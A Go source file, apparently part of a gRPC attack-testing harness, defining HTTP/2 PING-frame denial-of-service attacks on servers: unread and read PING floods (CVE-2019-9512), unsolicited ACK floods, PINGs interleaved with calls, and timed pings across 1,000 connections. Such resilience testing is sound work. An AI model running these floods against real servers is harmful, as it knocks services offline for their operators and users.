// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// pingKinds are attacks on a server with PING frames (RFC 9113, 6.7).
var pingKinds = []Kind{
	{
		Name: "server/ping/flood-unread", Short: true,
		About:  "PINGs whose answers nobody reads (CVE-2019-9512)",
		Attack: flood(4, false, frame(wire.Ping, 0, 0, eightBytes)),
	},
	{
		Name:   "server/ping/flood",
		About:  "PINGs, answers are read (CVE-2019-9512)",
		Attack: flood(4, true, frame(wire.Ping, 0, 0, eightBytes)),
	},
	{
		Name:   "server/ping/ack-flood",
		About:  "answers to PINGs that were never sent",
		Attack: flood(4, true, frame(wire.Ping, wire.Ack, 0, eightBytes)),
	},
	{
		Name:  "server/ping/with-calls",
		About: "PINGs between calls, so that a count that calls reset never ends",
		Attack: flood(4, true, func(c *attacker.Conn) error {
			for range 200 {
				if err := c.Frame(wire.Ping, 0, 0, eightBytes); err != nil {
					return err
				}
			}
			_, err := c.Call(orders.Echo)
			return err
		}),
	},
	{
		Name:  "server/ping/linger",
		About: "a PING every 150 ms on 1,000 connections: just when they are about to park",
		Time:  3 * time.Second,
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(1000, func(c *attacker.Conn) error {
				c.Drain(nil)
				return every(c, 150*time.Millisecond, frame(wire.Ping, 0, 0, eightBytes))
			})
		},
	},
}

var eightBytes = make([]byte, 8)
